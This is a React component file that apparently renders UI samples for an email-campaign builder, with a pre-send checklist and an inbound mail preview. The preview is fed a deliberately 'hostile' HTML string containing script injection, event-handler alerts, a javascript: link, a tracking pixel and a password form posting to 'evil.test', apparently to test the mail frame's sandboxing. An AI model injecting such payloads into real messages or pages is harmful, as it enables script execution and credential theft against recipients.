import { Button } from '@mantine/core';
import { BreadcrumbBar } from '../../components/layout/BreadcrumbBar';
import { ChecklistRail } from '../../components/layout/ChecklistRail';
import { WithSide } from '../../components/layout/Page';
import { PlainLink, QuietButton } from '../../components/layout/QuietLink';
import { Section } from '../../components/layout/Section';
import { TickCard } from '../../components/layout/TickCard';
import { MailFrame } from '../../components/mail/MailFrame';
import { StateWord } from '../../components/states/StateGlyph';
import { Pile } from './Columns';

const hostile = `<style>p{color:#5a2e1b}</style><h2>Olá Jonas,</h2><p onclick="alert(1)">Yes, 40 kg a month would work for us.
  <script>parent.document.title = 'taken'</script><a href="javascript:alert(1)">Click</a>
  <a href="https://example.test">our shop</a></p><img src="https://tracker.test/p.gif" onerror="alert(2)">
  <form action="https://evil.test"><input name="password"></form>`;

export function ContentSamples() {
  return (
    <>
      <Section title="Object page">
        <BreadcrumbBar
          trail={[
            <PlainLink key="campaigns" to="/w/$workspaceId/campaigns" params={{ workspaceId: 'w' }}>
              Campaigns
            </PlainLink>,
          ]}
          name="Winter roast launch"
          state={<StateWord state={{ campaign: 'draft' }} />}
          note="Saved 12:04"
          actions={
            <>
              <Button variant="default">Preview</Button>
              <Button>Send test</Button>
            </>
          }
        />
      </Section>
      <Section title="Builder and mail">
        <WithSide
          sideWidth={300}
          side={
            <ChecklistRail
              title="Before it goes"
              checks={[
                { title: 'Someone to send to', state: 'ready', note: '48,709 people' },
                { title: 'Sender allowed to send', state: 'ready', note: 'SPF, DKIM, DMARC pass' },
                {
                  title: 'Content has 2 notes',
                  state: 'look',
                  note: 'A picture has no text, 1 person has no city',
                  fix: <QuietButton>Show</QuietButton>,
                },
                { title: 'Unsubscribe link', state: 'broken', note: 'The mail has none' },
                {
                  title: 'Schedule',
                  state: 'todo',
                  note: 'Confirm the time',
                  fix: <QuietButton>Confirm</QuietButton>,
                },
              ]}
              action={
                <Button size="lg" fullWidth>
                  Review and schedule
                </Button>
              }
              hint="Nothing leaves yet. You see every mail first."
            />
          }
        >
          <Pile>
            <TickCard
              title="Audience"
              state="ready"
              summary="Subscribers DE, AT, CH"
              action={
                <Button size="xs" variant="subtle" color="gray">
                  Change
                </Button>
              }
            >
              48,709 people will get it.
            </TickCard>
            <TickCard title="Content" state="look">
              <MailFrame title="Mail from Tomás Alvarenga" html={hostile} height={180} />
            </TickCard>
          </Pile>
        </WithSide>
      </Section>
    </>
  );
}
